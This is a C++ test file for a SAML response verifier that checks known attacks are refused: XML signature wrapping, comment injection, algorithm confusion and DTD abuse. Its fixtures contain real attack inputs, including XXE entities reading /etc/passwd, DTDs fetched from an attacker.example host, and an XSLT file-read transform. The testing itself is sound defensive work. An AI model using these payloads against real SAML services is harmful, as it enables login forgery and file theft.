// Known attacks on SAML service providers, each refused with its precise reason.
// Every fixture is a valid signed response with exactly one change — the attack
// named by the test.
#include <ssogate/saml/verify.hpp>

#include "support/keys.hpp"
#include "support/response_builder.hpp"
#include "temp_dir.hpp"

#include <catch2/catch.hpp>

#include <cstdlib>
#include <filesystem>
#include <fstream>

using namespace ssogate;
using namespace ssogate::test::saml_fixture;
using saml::errc;

namespace {

errc refused(saml::verify_result const& r)
{
    if (r)
        FAIL("accepted (name_id " << r->name_id << "), but a refusal was expected");
    INFO(r.error());
    return r.error().code;
}

std::string between(std::string const& s, std::string const& open, std::string const& close)
{
    auto const b = s.find(open);
    auto const e = s.find(close, b);
    if (b == std::string::npos || e == std::string::npos)
        throw std::runtime_error("fixture: " + open + " not found");
    return s.substr(b, e + close.size() - b);
}

std::string without_declaration(std::string const& s)
{
    if (s.rfind("<?xml", 0) != 0)
        return s;
    return s.substr(s.find("?>") + 2);
}

std::string erase(std::string s, std::string const& part)
{
    return replace_once(std::move(s), part, "");
}

/// The attacker's assertion: same shape, another subject.
response_builder evil(std::string const& assertion_id)
{
    response_builder b;
    b.assertion_id = assertion_id;
    b.name_id = "admin@example.com";
    return b;
}

// Built on first use (the saml library guard exists only once the run started).
std::string const& signed_response()
{
    static std::string const xml = signed_assertion_response();
    return xml;
}

std::string const& signed_assertion()
{
    static std::string const xml = between(signed_response(), "<saml:Assertion", "</saml:Assertion>");
    return xml;
}

} // namespace

// --- XML signature wrapping (Somorovsky et al., USENIX Security 2012) ---------

TEST_CASE("XSW1: a signed Response moved into the Signature of an unsigned evil Response is refused", "[saml][attack][xsw]")
{
    response_builder const honest;
    std::string const original = without_declaration(signed_response_only(honest));
    std::string const signature = between(original, "<ds:Signature", "</ds:Signature>");
    std::string const inner = erase(original, signature);
    auto wrapper = evil("_assert-evil");
    wrapper.response_id = "_resp-evil";
    std::string xml = wrapper.response();
    std::string const sig_with_original = replace_once(signature, "</ds:Signature>", inner + "</ds:Signature>");
    xml = replace_once(xml, "</saml:Issuer>", "</saml:Issuer>" + sig_with_original);
    CHECK(refused(verify(xml)) == errc::structure_forbidden);
}

TEST_CASE("XSW2: a signed Response placed before a detached Signature in an evil Response is refused", "[saml][attack][xsw]")
{
    response_builder const honest;
    std::string const original = without_declaration(signed_response_only(honest));
    std::string const signature = between(original, "<ds:Signature", "</ds:Signature>");
    auto wrapper = evil("_assert-evil");
    wrapper.response_id = "_resp-evil";
    std::string const xml = replace_once(wrapper.response(), "</saml:Issuer>",
                                         "</saml:Issuer>" + erase(original, signature) + signature);
    CHECK(refused(verify(xml)) == errc::structure_forbidden);
}

TEST_CASE("XSW3: an unsigned evil Assertion with the same ID before the signed one is refused", "[saml][attack][xsw]")
{
    std::string const xml = replace_once(signed_response(), "<saml:Assertion",
                                         evil("_assert-3d4e5f").assertion() + "<saml:Assertion");
    CHECK(refused(verify(xml)) == errc::duplicate_id);
}

TEST_CASE("XSW3 variant: an unsigned evil Assertion with another ID before the signed one is refused", "[saml][attack][xsw]")
{
    std::string const xml = replace_once(signed_response(), "<saml:Assertion",
                                         evil("_assert-evil").assertion() + "<saml:Assertion");
    CHECK(refused(verify(xml)) == errc::multiple_assertions);
}

TEST_CASE("XSW4: an evil Assertion wrapping the signed Assertion is refused", "[saml][attack][xsw]")
{
    for (std::string const id : {"_assert-3d4e5f", "_assert-evil"}) {
        std::string wrapper = evil(id).assertion();
        wrapper = replace_once(wrapper, "</saml:Assertion>", signed_assertion() + "</saml:Assertion>");
        std::string const xml = replace_once(signed_response(), signed_assertion(), wrapper);
        CHECK(refused(verify(xml)) == (id == "_assert-evil" ? errc::multiple_assertions : errc::duplicate_id));
    }
}

TEST_CASE("XSW5: the signature moved to an evil Assertion with an unsigned copy of the original appended is refused", "[saml][attack][xsw]")
{
    std::string const signature = between(signed_assertion(), "<ds:Signature", "</ds:Signature>");
    std::string const evil_signed = replace_once(evil("_assert-3d4e5f").assertion(), "</saml:Issuer>",
                                                 "</saml:Issuer>" + signature);
    std::string const original_copy = erase(signed_assertion(), signature);
    std::string const xml = replace_once(signed_response(), signed_assertion(), evil_signed + original_copy);
    CHECK(refused(verify(xml)) == errc::duplicate_id);
}

TEST_CASE("XSW6: the original Assertion hidden inside the evil Assertion's Signature is refused", "[saml][attack][xsw]")
{
    std::string const signature = between(signed_assertion(), "<ds:Signature", "</ds:Signature>");
    std::string const hidden = replace_once(signature, "</ds:Signature>", signed_assertion() + "</ds:Signature>");
    std::string const evil_signed = replace_once(evil("_assert-evil").assertion(), "</saml:Issuer>",
                                                 "</saml:Issuer>" + hidden);
    std::string const xml = replace_once(signed_response(), signed_assertion(), evil_signed);
    CHECK(refused(verify(xml)) == errc::multiple_assertions);
}

TEST_CASE("XSW7: the signed Assertion moved into samlp:Extensions beside an unsigned evil one is refused", "[saml][attack][xsw]")
{
    for (std::string const id : {"_assert-3d4e5f", "_assert-evil"}) {
        auto b = evil(id);
        b.response_extensions = signed_assertion();
        CHECK(refused(verify(b.response())) == (id == "_assert-evil" ? errc::structure_forbidden : errc::duplicate_id));
    }
}

TEST_CASE("XSW8: the original Assertion inside a ds:Object of the evil Assertion's Signature is refused", "[saml][attack][xsw]")
{
    std::string const signature = between(signed_assertion(), "<ds:Signature", "</ds:Signature>");
    std::string const original_copy = erase(signed_assertion(), signature);
    std::string const with_object =
        replace_once(signature, "</ds:Signature>", "<ds:Object>" + original_copy + "</ds:Object></ds:Signature>");
    std::string const evil_signed = replace_once(evil("_assert-3d4e5f").assertion(), "</saml:Issuer>",
                                                 "</saml:Issuer>" + with_object);
    std::string const xml = replace_once(signed_response(), signed_assertion(), evil_signed);
    CHECK(refused(verify(xml)) == errc::duplicate_id);
    // with another ID for the evil assertion, the Object itself is the refusal
    std::string const other = replace_once(evil_signed, "ID=\"_assert-3d4e5f\"", "ID=\"_assert-evil\"");
    CHECK(refused(verify(replace_once(signed_response(), signed_assertion(), other))) == errc::structure_forbidden);
}

TEST_CASE("an evil Assertion carrying a valid signature of another element is refused (reference to another element)", "[saml][attack][xsw]")
{
    // The IdP signed the Response; the attacker moves that signature into the assertion.
    response_builder b;
    saml::sign_options o;
    o.host_id = b.assertion_id;
    auto const xml = sign(b.response(), b.response_id, "idp", o);
    CHECK(refused(verify(xml)) == errc::reference_mismatch);
}

TEST_CASE("a Signature whose Reference URI is empty (the whole document) is refused", "[saml][attack][xsw]")
{
    auto const xml = replace_once(signed_response(), "URI=\"#_assert-3d4e5f\"", "URI=\"\"");
    CHECK(refused(verify(xml)) == errc::reference_mismatch);
}

TEST_CASE("a SignedInfo with two References is refused", "[saml][attack][xsw]")
{
    std::string const reference = between(signed_response(), "<ds:Reference", "</ds:Reference>");
    auto const xml = replace_once(signed_response(), reference, reference + reference);
    CHECK(refused(verify(xml)) == errc::reference_mismatch);
}

TEST_CASE("a ds:Signature hidden in samlp:Extensions is refused", "[saml][attack][xsw]")
{
    response_builder b;
    b.response_extensions = between(signed_assertion(), "<ds:Signature", "</ds:Signature>");
    auto const xml = sign(b.response(), b.assertion_id);
    CHECK(refused(verify(xml)) == errc::structure_forbidden);
}

TEST_CASE("two Signatures in one Assertion are refused", "[saml][attack][xsw]")
{
    std::string const signature = between(signed_assertion(), "<ds:Signature", "</ds:Signature>");
    auto const xml = replace_once(signed_response(), signature, signature + signature);
    CHECK(refused(verify(xml)) == errc::structure_forbidden);
}

TEST_CASE("a ds:Manifest anywhere is refused", "[saml][attack]")
{
    auto const xml = replace_once(signed_response(), "</ds:SignatureValue>",
                                  "</ds:SignatureValue><ds:Manifest><ds:Reference URI=\"#x\"/></ds:Manifest>");
    CHECK(refused(verify(xml)) == errc::structure_forbidden);
}

// --- two assertions -------------------------------------------------------------

TEST_CASE("a signed and an unsigned Assertion in the Response are refused in either order", "[saml][attack]")
{
    std::string const unsigned_one = evil("_assert-second").assertion();
    CHECK(refused(verify(replace_once(signed_response(), "</samlp:Response>", unsigned_one + "</samlp:Response>"))) ==
          errc::multiple_assertions);
    CHECK(refused(verify(replace_once(signed_response(), "<saml:Assertion", unsigned_one + "<saml:Assertion"))) ==
          errc::multiple_assertions);
}

TEST_CASE("an Assertion next to an EncryptedAssertion is refused", "[saml][attack][encrypted]")
{
    response_builder b;
    auto const encrypted = encrypt(sign(b.response(), b.assertion_id));
    CHECK(refused(verify(replace_once(encrypted, "</samlp:Response>", evil("_assert-second").assertion() +
                                                                           "</samlp:Response>"))) ==
          errc::multiple_assertions);
}

TEST_CASE("duplicate IDs anywhere in the document are refused", "[saml][attack]")
{
    // inserted after signing, outside the signed assertion
    auto const with = [](std::string const& element) {
        return replace_once(signed_response(), "<samlp:Status>",
                            "<samlp:Extensions>" + element + "</samlp:Extensions><samlp:Status>");
    };
    CHECK(refused(verify(with("<x:Data xmlns:x=\"urn:x\" ID=\"_assert-3d4e5f\"/>"))) == errc::duplicate_id);
    CHECK(refused(verify(with("<x:Data xmlns:x=\"urn:x\" ID=\"_resp-0a1b2c\"/>"))) == errc::duplicate_id);
    CHECK(refused(verify(with("<x:Data xmlns:x=\"urn:x\" Id=\"_assert-3d4e5f\"/>"))) == errc::duplicate_id);
    // an xml:id equal to the signed element's ID counts too
    CHECK(refused(verify(with("<x:Data xmlns:x=\"urn:x\" xml:id=\"_assert-3d4e5f\"/>"))) == errc::duplicate_id);
}

// --- keys ---------------------------------------------------------------------------

TEST_CASE("a response signed by an attacker who embeds his certificate in KeyInfo is refused", "[saml][attack][keyinfo]")
{
    auto const b = evil("_assert-evil");
    saml::sign_options o;
    o.key_info = saml::key_info_content::x509_certificate;
    o.cert = test::saml_keys::cert("attacker");
    CHECK(refused(verify(sign(b.response(), b.assertion_id, "attacker", o))) == errc::signature_invalid);
    o.key_info = saml::key_info_content::rsa_key_value;
    CHECK(refused(verify(sign(b.response(), b.assertion_id, "attacker", o))) == errc::signature_invalid);
}

TEST_CASE("a response signed with a cloned certificate that copies the IdP's subject is refused", "[saml][attack][keyinfo]")
{
    auto const b = evil("_assert-evil");
    saml::sign_options o;
    o.key_info = saml::key_info_content::x509_certificate;
    o.cert = test::saml_keys::cert("idp_clone");
    CHECK(refused(verify(sign(b.response(), b.assertion_id, "idp_clone", o))) == errc::signature_invalid);
}

TEST_CASE("a response whose signature was stripped is refused", "[saml][attack]")
{
    std::string const signature = between(signed_response(), "<ds:Signature", "</ds:Signature>");
    CHECK(refused(verify(erase(signed_response(), signature))) == errc::signature_missing);
}

TEST_CASE("a response whose NameID was changed after signing is refused", "[saml][attack]")
{
    CHECK(refused(verify(replace_once(signed_response(), ">alice@example.com</saml:NameID>",
                                      ">admin@example.com</saml:NameID>"))) == errc::signature_invalid);
}

TEST_CASE("a response whose SignatureValue was altered is refused", "[saml][attack]")
{
    auto const value = between(signed_response(), "<ds:SignatureValue>", "</ds:SignatureValue>");
    std::string altered = value;
    auto const pos = std::string("<ds:SignatureValue>").size() + 5;
    altered[pos] = altered[pos] == 'A' ? 'B' : 'A';
    CHECK(refused(verify(replace_once(signed_response(), value, altered))) == errc::signature_invalid);
}

TEST_CASE("a response with no configured signing certificate verifies nothing", "[saml][attack]")
{
    saml::idp_trust const empty{idp_entity, {}};
    CHECK(refused(saml::verify_response_xml(signed_response(), empty, options(), expectation(), now())) ==
          errc::signature_invalid);
}

// --- comment injection (Duo Labs 2018, CVE-2017-11427..11430) ---------------------

TEST_CASE("a comment injected into the NameID after signing cannot truncate it", "[saml][attack][comment]")
{
    response_builder b;
    b.name_id = "alice@example.com.evil.com";
    auto const xml = replace_once(signed_assertion_response(b), "alice@example.com.evil.com",
                                  "alice@example.com<!---->.evil.com");
    auto const r = verify(xml);
    REQUIRE(r.has_value()); // exc-c14n drops comments: the signature still holds
    CHECK(r->name_id == "alice@example.com.evil.com");
}

TEST_CASE("a comment injected into an attribute value after signing cannot truncate it", "[saml][attack][comment]")
{
    auto const xml = replace_once(signed_response(), ">editor</saml:AttributeValue>",
                                  ">edi<!-- injected -->tor</saml:AttributeValue>");
    auto const r = verify(xml);
    REQUIRE(r.has_value());
    CHECK(r->values_of("role") == std::vector<std::string>{"editor"});
    auto const owner = replace_once(signed_response(), ">editor</saml:AttributeValue>",
                                    ">owner<!---->.bogus</saml:AttributeValue>");
    CHECK(refused(verify(owner)) == errc::signature_invalid); // changing text is still caught
}

TEST_CASE("a NameID with element content is refused", "[saml][attack][comment]")
{
    response_builder b;
    b.name_id = "alice@example.com<x:y xmlns:x=\"urn:x\">.evil.com</x:y>";
    CHECK(refused(verify(signed_assertion_response(b))) == errc::malformed);
}

// --- DTDs and entities (XXE, billion laughs) ----------------------------------------

TEST_CASE("a response with an internal DTD declaring entities is refused", "[saml][attack][dtd]")
{
    std::string const dtd = "<!DOCTYPE samlp:Response [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\">"
                            "<!ENTITY c \"&b;&b;&b;&b;&b;&b;\">]>";
    auto const xml = dtd + replace_once(without_declaration(signed_response()), ">alice@example.com</saml:NameID>",
                                        ">&c;</saml:NameID>");
    CHECK(refused(verify(xml)) == errc::dtd_forbidden);
}

TEST_CASE("a response with an external entity (XXE) is refused", "[saml][attack][dtd]")
{
    std::string const dtd = "<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
    auto const xml = dtd + replace_once(without_declaration(signed_response()), ">alice@example.com</saml:NameID>",
                                        ">&xxe;</saml:NameID>");
    CHECK(refused(verify(xml)) == errc::dtd_forbidden);
}

TEST_CASE("a response with an external DTD subset or parameter entities is refused", "[saml][attack][dtd]")
{
    CHECK(refused(verify("<!DOCTYPE samlp:Response SYSTEM \"http://attacker.example/x.dtd\">" +
                         without_declaration(signed_response()))) == errc::dtd_forbidden);
    CHECK(refused(verify("<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]>" +
                         without_declaration(signed_response()))) == errc::dtd_forbidden);
}

TEST_CASE("an undeclared entity reference is refused as malformed", "[saml][attack][dtd]")
{
    CHECK(refused(verify(replace_once(signed_response(), ">alice@example.com</saml:NameID>", ">&xxe;</saml:NameID>"))) ==
          errc::malformed);
}

// --- algorithms ------------------------------------------------------------------------

TEST_CASE("an HMAC SignatureMethod is refused", "[saml][attack][algorithm]")
{
    auto const xml = replace_once(signed_response(), "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
                                  "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256");
    CHECK(refused(verify(xml)) == errc::algorithm_forbidden);
}

TEST_CASE("a SHA-1 signature and a SHA-1 digest are refused by default", "[saml][attack][algorithm]")
{
    response_builder b;
    saml::sign_options o;
    o.algorithm = saml::signature_algorithm::rsa_sha1;
    CHECK(refused(verify(sign(b.response(), b.assertion_id, "idp", o))) == errc::algorithm_forbidden);
    o.algorithm = saml::signature_algorithm::rsa_sha256;
    o.digest = saml::digest_algorithm::sha1;
    CHECK(refused(verify(sign(b.response(), b.assertion_id, "idp", o))) == errc::algorithm_forbidden);
}

TEST_CASE("an XSLT, XPath or WithComments transform in the Reference is refused", "[saml][attack][algorithm]")
{
    std::string const enveloped = "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/>";
    std::string const xslt =
        "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><xsl:stylesheet version=\"1.0\" "
        "xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('file:///etc/passwd')\"/>"
        "</xsl:template></xsl:stylesheet></ds:Transform>";
    CHECK(refused(verify(replace_once(signed_response(), enveloped, enveloped + xslt))) == errc::algorithm_forbidden);
    std::string const xpath = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\">"
                              "<ds:XPath>not(ancestor-or-self::saml:NameID)</ds:XPath></ds:Transform>";
    CHECK(refused(verify(replace_once(signed_response(), enveloped, enveloped + xpath))) == errc::algorithm_forbidden);
    auto const with_comments = replace_once(signed_response(),
                                            "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>",
                                            "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#WithComments\"/>");
    CHECK(refused(verify(with_comments)) == errc::algorithm_forbidden);
    auto const inclusive = replace_once(signed_response(),
                                        "<ds:CanonicalizationMethod Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>",
                                        "<ds:CanonicalizationMethod Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments\"/>");
    CHECK(refused(verify(inclusive)) == errc::algorithm_forbidden);
}

namespace {

// Signs `tmpl` (a response holding a Signature template) with the xmlsec1 command.
std::optional<std::string> xmlsec1_sign(std::string const& tmpl, std::string const& key_option)
{
    if (!std::filesystem::exists("/usr/bin/xmlsec1"))
        return std::nullopt;
    test::temp_dir dir;
    std::ofstream(dir / "hmac.key", std::ios::binary) << test::saml_keys::pem("idp.crt"); // the public cert as HMAC secret
    std::ofstream(dir / "tmpl.xml", std::ios::binary) << tmpl;
    std::string const command = "/usr/bin/xmlsec1 --sign --id-attr:ID Assertion " + key_option + " " +
                                (dir / "hmac.key").string() + " --output " + (dir / "out.xml").string() + " " +
                                (dir / "tmpl.xml").string() + " >/dev/null 2>&1";
    if (std::system(command.c_str()) != 0)
        return std::nullopt;
    return test::read_file(dir / "out.xml");
}

std::string signature_template(std::string const& method, std::string const& extra_transform)
{
    return "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"><ds:SignedInfo>"
           "<ds:CanonicalizationMethod Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>"
           "<ds:SignatureMethod Algorithm=\"" + method + "\"/><ds:Reference URI=\"#_assert-3d4e5f\"><ds:Transforms>"
           "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/>" + extra_transform +
           "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/></ds:Transforms>"
           "<ds:DigestMethod Algorithm=\"http://www.w3.org/2001/04/xmlenc#sha256\"/><ds:DigestValue></ds:DigestValue>"
           "</ds:Reference></ds:SignedInfo><ds:SignatureValue></ds:SignatureValue></ds:Signature>";
}

} // namespace

TEST_CASE("a real HMAC-SHA256 signature keyed with the IdP's public certificate is refused", "[saml][attack][algorithm]")
{
    // Algorithm confusion: the "secret" is public. Signed by the xmlsec1 command.
    response_builder b;
    auto const tmpl = replace_once(b.response(), "</saml:Issuer><saml:Subject>",
                                   "</saml:Issuer>" + signature_template("http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", "") +
                                       "<saml:Subject>");
    auto const xml = xmlsec1_sign(tmpl, "--hmackey");
    if (!xml) {
        WARN("xmlsec1 command unavailable; checked the template instead");
        CHECK(refused(verify(tmpl)) == errc::algorithm_forbidden);
        return;
    }
    CHECK(refused(verify(*xml)) == errc::algorithm_forbidden);
}

// --- time boundaries (Core §2.5.1.2, skew 180 s) --------------------------------------

TEST_CASE("verify_response honours NotBefore minus skew exactly at the boundary", "[saml][reject][time]")
{
    auto const sp = options();
    auto const xml = signed_response(); // Conditions NotBefore = now - 60 s
    auto const not_before = now() - std::chrono::seconds(60);
    auto at_time = [&](std::chrono::system_clock::time_point t) {
        return saml::verify_response_xml(xml, trust(), sp, expectation(), t);
    };
    CHECK(at_time(not_before - sp.clock_skew).has_value());
    CHECK(refused(at_time(not_before - sp.clock_skew - std::chrono::seconds(1))) == errc::not_yet_valid);
    CHECK(refused(at_time(not_before - sp.clock_skew - std::chrono::milliseconds(1))) == errc::not_yet_valid);
}

TEST_CASE("verify_response honours NotOnOrAfter plus skew exactly at the boundary", "[saml][reject][time]")
{
    auto const sp = options();
    auto const not_on_or_after = now() + std::chrono::seconds(300);
    auto at_time = [&](std::chrono::system_clock::time_point t) {
        return saml::verify_response_xml(signed_response(), trust(), sp, expectation(), t);
    };
    CHECK(at_time(not_on_or_after + sp.clock_skew - std::chrono::seconds(1)).has_value());
    CHECK(at_time(not_on_or_after + sp.clock_skew - std::chrono::milliseconds(1)).has_value());
    CHECK(refused(at_time(not_on_or_after + sp.clock_skew)) == errc::expired);
    CHECK(refused(at_time(not_on_or_after + sp.clock_skew + std::chrono::seconds(1))) == errc::expired);
}

TEST_CASE("verify_response applies the skew to the bearer confirmation's NotOnOrAfter", "[saml][reject][time]")
{
    response_builder b;
    b.not_on_or_after.reset();
    b.confirmation_not_on_or_after = at(std::chrono::seconds(-181));
    CHECK(refused(verify(signed_assertion_response(b))) == errc::expired);
    b.confirmation_not_on_or_after = at(std::chrono::seconds(-179));
    CHECK(verify(signed_assertion_response(b)).has_value());
}

TEST_CASE("verify_response ignores the validity dates of a pinned certificate", "[saml][verify][keys]")
{
    // The IdP certificate is pinned: verifying long after its notAfter still works.
    auto const late = test::saml_keys::cert("idp").not_after() + std::chrono::hours(24 * 365);
    response_builder b;
    b.not_on_or_after.reset();
    b.confirmation_not_on_or_after = "9999-12-31T23:59:59Z";
    b.session_not_on_or_after.reset();
    auto const xml = signed_assertion_response(b);
    auto const r = saml::verify_response_xml(xml, trust(), options(), expectation(), late);
    INFO((r ? std::string("ok") : r.error().detail));
    CHECK(r.has_value());
}
